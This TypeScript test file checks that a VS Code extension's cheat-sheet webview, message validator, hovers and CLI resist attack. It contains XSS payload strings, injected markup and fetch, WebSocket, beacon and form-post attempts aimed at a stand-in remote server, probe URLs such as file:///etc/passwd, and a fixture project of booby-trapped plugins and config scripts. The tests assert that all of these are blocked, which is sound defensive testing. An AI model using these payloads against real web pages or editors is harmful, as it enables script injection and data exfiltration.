/**
 * Security. The cheat-sheet webview: markup injected into its page (inline and wrong-nonce scripts,
 * remote scripts, styles, images, frames, forms, handlers, `javascript:` links) and scripted attempts
 * (DOM-inserted scripts, fetch, WebSocket, dynamic import) run nothing and reach nothing, in headless
 * Chromium under the page's own CSP; random and hostile messages are refused by the extension and
 * rendered as text by the page. Hovers hold our prose only, with command links to our commands only,
 * the only ones the client trusts. Nothing from the workspace is executed: not the code analysed, not
 * tsconfig plugins, not config files.
 */
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import * as fc from 'fast-check';
import * as ts from 'typescript';
import { cheatSheetHtml } from '../client/src/cheatSheetHtml';
import { indexCatalog, LIMITS, parseCatalog, parsePageMessage, type SheetEntry } from '../client/src/cheatSheetMessages';
import { PATTERNS } from '../server/src/patterns';
import { PatternLensService } from '../server/src/service';
import { COMMANDS, HOVER_LINK_COMMANDS } from '../server/src/service/commands';
import { patternMarkdown } from '../server/src/service/hover';
import { FUZZ_SEED, lineStarts, positionAt, ROOT, seedsOf } from './support/fuzz';
import { TestClient } from './support/lsp';

const MEDIA = path.join(ROOT, 'media');
const CHROMIUM = '/usr/bin/chromium';
const catalog = parseCatalog(JSON.parse(fs.readFileSync(path.join(MEDIA, 'catalog.json'), 'utf8'))).entries;
const index = indexCatalog(catalog);

/** Strings an attacker would try in any text field. */
const HOSTILE = [
  '<img src=x onerror="globalThis.ran.push(\'img\')">',
  '<script>globalThis.ran.push("script")</script>',
  '"><svg onload="globalThis.ran.push(\'svg\')">',
  '[link](javascript:globalThis.ran.push("md"))',
  '[cmd](command:workbench.action.quit)',
  '`</code><iframe src=javascript:1>`',
  '**<style>*{display:none}</style>**',
  '\u202Egnp.exe',
  '${globalThis.ran.push("template")}',
];

describe('the cheat-sheet page under its CSP, in headless Chromium', { skip: fs.existsSync(CHROMIUM) ? false : `${CHROMIUM} is not installed` }, () => {
  // eslint-disable-next-line @typescript-eslint/consistent-type-imports
  let browser: import('playwright-core').Browser;
  let page: http.Server;
  let remote: http.Server;
  let origin = '';
  let remoteOrigin = '';
  const remoteRequests: string[] = [];
  /** Markup added to the page's body, as if something had managed to put it there (set by `open`). */
  let injected = '';

  const listen = async (server: http.Server) => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  };

  before(async () => {
    page = http.createServer((request, response) => {
      const pathname = new URL(request.url ?? '/', 'http://localhost').pathname;
      if (pathname === '/index.html') {
        const html = cheatSheetHtml({ cspSource: origin, scriptUri: `${origin}/media/cheatsheet.js`, styleUri: `${origin}/media/cheatsheet.css` });
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html.replace('</body>', `${injected}</body>`));
      } else if (pathname === '/media/cheatsheet.js' || pathname === '/media/cheatsheet.css') {
        response.writeHead(200, { 'content-type': pathname.endsWith('.js') ? 'text/javascript' : 'text/css' }).end(fs.readFileSync(path.join(ROOT, pathname)));
      } else {
        response.writeHead(404).end();
      }
    });
    // Another origin stands for "remote": the page must never reach it.
    remote = http.createServer((request, response) => {
      remoteRequests.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('globalThis.ran.push("remote script")');
    });
    origin = await listen(page);
    remoteOrigin = await listen(remote);
    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'] });
  });

  after(async () => {
    await browser?.close();
    for (const server of [page, remote]) await new Promise<void>((resolve) => server?.close(() => resolve()));
  });

  /** The page with a stub of VS Code's webview API; `ran` collects anything hostile that runs. */
  async function open(markup = '') {
    injected = markup;
    const context = await browser.newContext();
    const tab = await context.newPage();
    const errors: string[] = [];
    tab.on('pageerror', (error) => errors.push(error.message));
    await tab.addInitScript(`(() => {
      globalThis.ran = [];
      globalThis.__posted = [];
      globalThis.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => globalThis.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
      globalThis.acquireVsCodeApi = () => ({ postMessage: (m) => globalThis.__posted.push(m), getState: () => undefined, setState: () => undefined });
    })();`);
    await tab.goto(`${origin}/index.html`);
    await tab.waitForFunction('globalThis.__posted.length > 0');
    const send = (message: unknown) => tab.evaluate(`globalThis.postMessage(${JSON.stringify(message) ?? 'undefined'}, '*')`);
    return { tab, errors, send, context };
  }

  test('injected markup and scripted attempts run nothing and reach no other origin; the page itself still works', async () => {
    const r = remoteOrigin;
    const { tab, errors, send, context } = await open(`
      <script>globalThis.ran.push('inline script')</script>
      <script nonce="AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=">globalThis.ran.push('guessed nonce')</script>
      <script src="${r}/evil.js"></script>
      <script type="module">globalThis.ran.push('inline module')</script>
      <img src="${r}/pixel.png" onerror="globalThis.ran.push('handler')">
      <img src="missing.png" onerror="globalThis.ran.push('local handler')">
      <svg onload="globalThis.ran.push('svg handler')"></svg>
      <link rel="stylesheet" href="${r}/evil.css">
      <link rel="prefetch" href="${r}/prefetch">
      <style>body { background: url(${r}/style-block.png) }</style>
      <div style="background: url(${r}/style-attribute.png)">styled</div>
      <iframe src="${r}/frame.html"></iframe>
      <object data="${r}/object"></object>
      <embed src="${r}/embed">
      <video src="${r}/video.mp4" autoplay></video>
      <form id="evil-form" action="${r}/form" method="post"><input name="x" value="y"></form>
      <a id="evil-link" href="javascript:globalThis.ran.push('javascript: link')">x</a>`);
    const attempts = await tab.evaluate(`(async () => {
      const outcomes = {};
      const script = document.createElement('script');
      script.textContent = "globalThis.ran.push('DOM-inserted script')";
      document.body.append(script);
      const remoteScript = document.createElement('script');
      remoteScript.src = '${r}/dynamic.js';
      document.body.append(remoteScript);
      const framed = document.createElement('iframe');
      framed.srcdoc = "<script>parent.ran.push('srcdoc')<\\/script>";
      document.body.append(framed);
      for (const [name, attempt] of Object.entries({
        fetch: () => fetch('${r}/fetch'),
        xhr: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', '${r}/xhr'); x.send(); }),
        websocket: () => new Promise((resolve, reject) => { const s = new WebSocket('${r.replace('http', 'ws')}/ws'); s.onopen = resolve; s.onerror = reject; }),
        import: () => import('${r}/module.js'),
        worker: () => new Promise((resolve, reject) => { const w = new Worker('${r}/worker.js'); w.onerror = reject; setTimeout(resolve, 500); }),
      })) {
        try { await attempt(); outcomes[name] = 'allowed'; } catch { outcomes[name] = 'blocked'; }
      }
      // Queued either way; the CSP drops it later, which the remote server's empty log shows.
      navigator.sendBeacon('${r}/beacon', 'x');
      document.getElementById('evil-link').click();
      try { document.getElementById('evil-form').submit(); } catch {}
      await new Promise((resolve) => setTimeout(resolve, 500));
      return outcomes;
    })()`);
    assert.deepEqual(attempts, { fetch: 'blocked', xhr: 'blocked', websocket: 'blocked', import: 'blocked', worker: 'blocked' });
    assert.equal(tab.url(), `${origin}/index.html`, 'the form did not navigate away');
    assert.deepEqual(await tab.evaluate('globalThis.ran'), []);
    const violations: string[] = await tab.evaluate('globalThis.__violations');
    for (const directive of ['script-src', 'style-src', 'img-src', 'connect-src', 'frame-src', 'form-action']) {
      assert.ok(violations.some((v) => v.startsWith(directive)), `the CSP blocked something under ${directive}: ${violations.join(', ')}`);
    }

    // The page's own script (it carries the nonce) runs and renders. Polled: Playwright's own waits would
    // wait for the blocked navigations (form, javascript: link) to finish, which they never do.
    await send({ type: 'catalog', entries: catalog });
    let cards = 0;
    for (let i = 0; i < 100 && cards === 0; i++) {
      cards = await tab.evaluate('document.querySelectorAll(".card").length');
      if (cards === 0) await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.equal(cards, catalog.length);
    await context.close();
    assert.deepEqual(remoteRequests, []);
    assert.deepEqual(errors.filter((e) => !/Content Security Policy|refused|Failed to fetch|Failed to construct 'Worker'|WebSocket/i.test(e)), []);
  });

  test('random and hostile messages: no error, nothing runs, hostile text stays text', async () => {
    const { tab, errors, send, context } = await open();
    await send({ type: 'catalog', entries: catalog });
    await tab.waitForSelector('.card');
    const hostileEntry: SheetEntry = {
      ...catalog[0]!,
      id: 'zz-hostile',
      // Within the page's length limit for a title (a longer one is refused, entry and all).
      title: HOSTILE.slice(0, 3).join(' '),
      summary: HOSTILE.join(' '),
      what: HOSTILE.join('\n\n'),
      example: HOSTILE.join('\n'),
      links: [{ title: HOSTILE[0]!, url: 'https://example.com/' }],
    };
    const messages = fc.sample(
      fc.oneof(
        fc.jsonValue(),
        fc.record({ type: fc.constantFrom('catalog', 'showEntry', 'patterns', 'other'), entries: fc.jsonValue(), id: fc.constantFrom(...HOSTILE, 'zz-hostile'), seq: fc.integer(), state: fc.string(), items: fc.jsonValue(), file: fc.constantFrom(...HOSTILE) }, { requiredKeys: ['type'] }),
      ),
      { seed: FUZZ_SEED, numRuns: 150 },
    );
    for (const message of messages) await send(message);
    await send({ type: 'catalog', entries: [...catalog, hostileEntry] });
    await send({ type: 'patterns', seq: 1e9, state: 'ok', file: HOSTILE[0], items: [{ id: 'zz-hostile', line: 0, character: 0 }] });
    await send({ type: 'showEntry', id: 'zz-hostile' });
    await tab.waitForSelector('#entry-zz-hostile');
    assert.equal(await tab.locator('#entry-zz-hostile-title').textContent(), hostileEntry.title);
    assert.equal(await tab.locator('#entry-zz-hostile iframe, #entry-zz-hostile img, #entry-zz-hostile svg, #entry-zz-hostile script, #entry-zz-hostile style').count(), 0);
    for (const href of await tab.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))) {
      assert.match(href ?? '', /^(https:\/\/|#)/, `link ${href}`);
    }
    assert.deepEqual(await tab.evaluate('globalThis.ran'), []);
    assert.deepEqual(await tab.evaluate('globalThis.__violations'), []);
    assert.deepEqual(errors, []);
    // Whatever the page posts back is something the extension accepts.
    for (const posted of (await tab.evaluate('globalThis.__posted')) as unknown[]) assert.ok(parsePageMessage(posted, indexCatalog([...catalog, hostileEntry])), JSON.stringify(posted));
    await context.close();
  });
});

describe('messages from the page, validated by the extension', () => {
  const entryWithSnippet = catalog.find((e) => e.snippets.length > 0)!;
  const ids = [...catalog.map((e) => e.id), 'zz-unknown', '../etc', ...HOSTILE];
  const prefixes = [...catalog.flatMap((e) => e.snippets.map((s) => s.prefix)), 'pl-unknown', ...HOSTILE];
  const urls = [...index.urls, 'http://example.com/', 'javascript:alert(1)', 'command:workbench.action.quit', 'file:///etc/passwd', 'https://evil.example/', `https://x.example/${'a'.repeat(LIMITS.url)}`];
  const numbers = fc.oneof(fc.integer(), fc.double(), fc.constantFrom(-1, 0, 1, LIMITS.occurrences, Number.NaN, Number.MAX_SAFE_INTEGER + 2));
  const message = fc.oneof(
    fc.jsonValue(),
    fc.anything(),
    fc.record(
      {
        type: fc.constantFrom('ready', 'insertSnippet', 'openLink', 'jumpToPattern', 'runCommand', '__proto__', 'constructor'),
        id: fc.oneof(fc.constantFrom(...ids), fc.string()),
        prefix: fc.oneof(fc.constantFrom(...prefixes), fc.string()),
        url: fc.oneof(fc.constantFrom(...urls), fc.webUrl()),
        seq: numbers,
        index: numbers,
        extra: fc.jsonValue(),
      },
      { requiredKeys: ['type'] },
    ),
  );

  /** What a page may ask, said independently of the validator. */
  function allowed(m: Record<string, unknown>): boolean {
    const keys = Object.keys(m).sort().join(',');
    switch (m.type) {
      case 'ready':
        return keys === 'type';
      case 'insertSnippet':
        return keys === 'id,prefix,type' && catalog.some((e) => e.id === m.id && e.snippets.some((s) => s.prefix === m.prefix));
      case 'openLink':
        return keys === 'type,url' && typeof m.url === 'string' && index.urls.has(m.url) && m.url.startsWith('https://');
      case 'jumpToPattern':
        return keys === 'index,seq,type' && Number.isSafeInteger(m.seq) && (m.seq as number) >= 0 && Number.isInteger(m.index) && (m.index as number) >= 0 && (m.index as number) < LIMITS.occurrences;
      default:
        return false;
    }
  }

  test('a message is accepted, unchanged, exactly when it is one the page may send', () => {
    assert.ok(allowed({ type: 'insertSnippet', id: entryWithSnippet.id, prefix: entryWithSnippet.snippets[0]!.prefix }));
    fc.assert(
      fc.property(message, (raw) => {
        const parsed = parsePageMessage(raw, index);
        const ok = typeof raw === 'object' && raw !== null && !Array.isArray(raw) && allowed(raw as Record<string, unknown>);
        assert.equal(parsed !== undefined, ok, JSON.stringify(raw));
        if (parsed) assert.deepEqual(parsed, raw);
      }),
      { seed: FUZZ_SEED, numRuns: 3000 },
    );
  });
});

describe('hovers', () => {
  const verbosities = ['full', 'brief'] as const;
  const ours = new Map(verbosities.map((v) => [v, new Set(PATTERNS.map((p) => patternMarkdown(p, v)))]));

  /** Whether markdown is our prose for some patterns, joined as hovers join them, and nothing else. */
  function isOurProse(markdown: string, verbosity: (typeof verbosities)[number]): boolean {
    return markdown.split('\n\n---\n\n').every((part) => ours.get(verbosity)!.has(part));
  }

  test('every pattern hover is our prose, with command links to our trusted commands and catalog ids only', () => {
    for (const part of ours.get('full')!) {
      // Links outside code: fenced blocks and code spans hold Python and TypeScript, not links.
      const prose = part.replace(/```[\s\S]*?```/g, '').replace(/`[^`]*`/g, '');
      for (const [, target] of prose.matchAll(/\]\(([^)\s]+)/g)) {
        if (target!.startsWith('https://')) continue;
        const command = /^command:([\w.]+)\?(.*)$/.exec(target!);
        assert.ok(command && HOVER_LINK_COMMANDS.includes(command[1]!), `link ${target}`);
        const args = JSON.parse(decodeURIComponent(command[2]!)) as unknown[];
        assert.ok(args.length === 1 && PATTERNS.some((p) => p.id === args[0]), `arguments ${command[2]}`);
      }
    }
    assert.ok(!HOVER_LINK_COMMANDS.includes(COMMANDS.resetMutedPatterns));
  });

  test('no text of the document reaches a hover, even hostile text around the patterns', () => {
    const seeds = seedsOf(
      fs.readdirSync(path.join(ROOT, 'test', 'fixtures', 'patterns'), { recursive: true, withFileTypes: true }).filter((e) => e.isFile() && e.name.startsWith('match-')).map((e) => path.join(e.parentPath, e.name)),
    );
    const service = new PatternLensService();
    let hovers = 0;
    for (const verbosity of verbosities) {
      service.configure({ hover: { verbosity } });
      for (const seed of seeds) {
        // Hostile text in a comment on every line, as a document could hold it anywhere.
        const text = seed.text.split('\n').map((line, i) => `${line} // ${HOSTILE[i % HOSTILE.length]}`).join('\n');
        const uri = pathToFileURL(path.join(ROOT, 'examples', 'fuzz', path.basename(seed.name))).href;
        service.close(uri);
        service.open(uri, seed.languageId, 1, text);
        const starts = lineStarts(text);
        for (const finding of service.analysis(uri)!.findings) {
          const hover = service.hover(uri, positionAt(starts, finding.span.start));
          assert.ok(hover, `${seed.name}: a hover at ${finding.id}`);
          const markdown = (hover.contents as { value: string }).value;
          assert.ok(isOurProse(markdown, verbosity), `${seed.name}: the hover at ${finding.id} is our prose only`);
          for (const hostile of HOSTILE) assert.ok(!markdown.includes(hostile));
          hovers++;
        }
      }
    }
    assert.ok(hovers > 100, `${hovers} hovers`);
  });

  test('the client trusts exactly the hover link commands, and renders no HTML', () => {
    const file = path.join(ROOT, 'client', 'src', 'extension.ts');
    const source = ts.createSourceFile(file, fs.readFileSync(file, 'utf8'), ts.ScriptTarget.Latest, true);
    const properties = new Map<string, string>();
    const visit = (node: ts.Node): void => {
      if (ts.isPropertyAssignment(node) && ts.isIdentifier(node.name)) properties.set(node.name.text, node.initializer.getText(source));
      ts.forEachChild(node, visit);
    };
    visit(source);
    assert.equal(properties.get('isTrusted'), '{ enabledCommands: [...HOVER_LINK_COMMANDS] }');
    assert.equal(properties.get('supportHtml'), 'false');
  });
});

describe('no code from the workspace is executed', () => {
  const marker = (dir: string, name: string) => `require('node:fs').writeFileSync(${JSON.stringify(path.join(dir, name))}, 'ran');\n`;

  function hostileProject(): string {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pattern-lens-untrusted-'));
    const files: Record<string, string> = {
      'tsconfig.json': JSON.stringify({ extends: './base.json', compilerOptions: { plugins: [{ name: 'evil-plugin' }], types: ['evil-types'] }, include: ['src'] }),
      'base.json': JSON.stringify({ compilerOptions: { target: 'ES2022', module: 'NodeNext', lib: ['ESNext'], strict: true, experimentalDecorators: false } }),
      'node_modules/evil-plugin/package.json': JSON.stringify({ name: 'evil-plugin', main: 'index.js' }),
      'node_modules/evil-plugin/index.js': marker(dir, 'plugin-ran'),
      'node_modules/@types/evil-types/package.json': JSON.stringify({ name: '@types/evil-types', types: 'index.d.ts', main: 'index.js' }),
      'node_modules/@types/evil-types/index.d.ts': 'declare const evil: number;\n',
      'node_modules/@types/evil-types/index.js': marker(dir, 'types-ran'),
      'node_modules/typescript/package.json': JSON.stringify({ name: 'typescript', version: '6.0.3', main: 'index.js' }),
      'node_modules/typescript/index.js': marker(dir, 'typescript-ran'),
      'package.json': JSON.stringify({ name: 'hostile', patternLens: { rules: { 'loose-equality': 'error' } }, scripts: { prepare: marker(dir, 'script-ran') } }),
      'pattern-lens.json': JSON.stringify({ rules: { 'loose-equality': 'error' } }),
      'pattern-lens.config.js': marker(dir, 'config-ran'),
      '.eslintrc.js': marker(dir, 'eslint-ran'),
      'src/main.ts':
        marker(dir, 'code-ran') +
        'export class Resource implements Disposable {\n  [Symbol.dispose](): void {}\n  close(): void {}\n}\n' +
        'export function leak(a: unknown, b: unknown): boolean {\n  const resource = new Resource();\n  void resource;\n  return a == b;\n}\n',
    };
    for (const [name, text] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      fs.writeFileSync(path.join(dir, name), text);
    }
    return dir;
  }
  const ran = (dir: string) => fs.readdirSync(dir).filter((name) => name.endsWith('-ran'));

  test('the server reads the project (both phases run, refactors are listed) and runs none of it', async () => {
    const dir = hostileProject();
    const { client } = await TestClient.start();
    const uri = pathToFileURL(path.join(dir, 'src', 'main.ts')).href;
    const text = fs.readFileSync(path.join(dir, 'src', 'main.ts'), 'utf8');
    await client.open(uri, text);
    const full = await client.diagnostics(uri, 1, (p) => p.diagnostics.some((d) => d.code === 'undisposed-disposable'));
    assert.ok(full.some((d) => d.code === 'loose-equality' && d.severity === 1), 'pattern-lens.json was read');
    const starts = lineStarts(text);
    const actions = await client.codeActions(uri, { start: positionAt(starts, text.indexOf('close')), end: positionAt(starts, text.indexOf('close')) }, full);
    for (const action of actions.filter((a) => a.data !== undefined)) await client.resolve(action);
    assert.equal(await client.stop(), 0);
    assert.deepEqual(ran(dir), []);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('the CLI checks and fixes the project and runs none of it', () => {
    const dir = hostileProject();
    for (const command of ['check', 'fix']) {
      const result = spawnSync(process.execPath, [path.join(ROOT, 'dist', 'cli.js'), command, '.'], { cwd: dir, encoding: 'utf8' });
      assert.ok(command === 'fix' || /undisposed-disposable/.test(result.stdout), result.stdout + result.stderr);
    }
    assert.deepEqual(ran(dir), []);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('the extension declares untrusted and virtual workspaces supported', () => {
    const manifest = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { capabilities: unknown };
    assert.deepEqual(manifest.capabilities, { untrustedWorkspaces: { supported: true }, virtualWorkspaces: true });
  });
});
